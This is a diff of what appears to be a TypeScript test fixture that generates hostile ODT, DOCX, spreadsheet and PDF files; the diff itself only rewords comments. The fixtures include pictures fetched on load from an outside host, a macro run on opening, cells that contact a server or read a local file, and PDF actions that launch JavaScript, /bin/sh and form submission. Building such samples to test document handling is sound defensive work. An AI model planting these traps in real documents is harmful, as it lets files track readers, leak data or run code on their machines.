@@ -6,7 +6,7 @@ const frame = (inside: string): string =>
   `<draw:frame text:anchor-type="as-char" svg:width="4cm" svg:height="2cm">${inside}</draw:frame>`;
 const link = (path: string): string => `xlink:href="${OUTSIDE}/${path}" xlink:type="simple" xlink:actuate="onLoad"`;
 
-/** Also what shows that the trap works: LibreOffice with its usual settings and a network does fetch the picture. */
+/** Also proves that the trap works: LibreOffice with its usual settings and a network does fetch the picture. */
 export const linkedPicture = (): Uint8Array =>
   openDocument({
     type: 'text',
@@ -28,7 +28,7 @@ const macro = (): Uint8Array =>
     parts: { 'Basic/script-lc.xml': LIBRARIES, 'Basic/Standard/script-lb.xml': LIBRARY, 'Basic/Standard/M.xml': MACRO },
   });
 
-/** Cells that ask another server, and one that takes its value from a file of the machine. */
+/** Cells that request data from another server, and one that reads a file of the machine. */
 const askingSheet = (): Uint8Array => {
   const cell = (formula: string): string =>
     `<table:table-cell table:formula="${formula}" office:value-type="string"><text:p>cell</text:p></table:table-cell>`;
@@ -46,13 +46,13 @@ const askingSheet = (): Uint8Array => {
 
 const blip = `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="image"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
 
-/** On opening, on closing and on a click: a script, a program, an address, a form that is sent. */
+/** Actions on opening, on closing and on a click: a script, a program, an address, a form that is sent. */
 const pdfActions = (): Uint8Array =>
   makePdf(1, {
     catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${OUTSIDE}/js"\\)) /Next [<< /S /URI /URI (${OUTSIDE}/uri) >> << /S /Launch /F (/bin/sh) >> << /S /SubmitForm /F << /FS /URL /F (${OUTSIDE}/form) >> >>] >> /AA << /WC << /S /URI /URI (${OUTSIDE}/close) >> >>`,
   });
 
-/** Files that try to call somebody or to read the machine. */
+/** Files that try to contact a server or to read the machine. */
 export const OUTGOING: readonly HostileKind[] = [
   { kind: 'macro on opening', name: 'a.odt', make: macro, outcome: shown('only text') },
   {
